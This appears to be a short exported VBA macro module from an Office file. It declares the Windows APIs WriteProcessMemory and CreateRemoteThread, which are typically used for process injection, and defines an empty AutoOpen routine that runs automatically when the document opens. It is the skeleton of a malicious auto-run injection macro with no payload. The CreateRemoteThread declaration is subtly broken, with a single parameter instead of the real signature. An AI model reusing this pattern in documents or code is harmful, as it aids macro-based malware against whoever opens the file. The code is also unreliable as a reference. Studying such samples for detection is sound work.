Attribute VB_Name = "Module1"
Private Declare PtrSafe Function WriteProcessMemory Lib "kernel32" (ByVal h As LongPtr, ByVal a As LongPtr, b As Any, ByVal n As Long, w As Long) As Long
Private Declare PtrSafe Function CreateRemoteThread Lib "kernel32" (ByVal h As LongPtr) As LongPtr
Sub AutoOpen()
End Sub
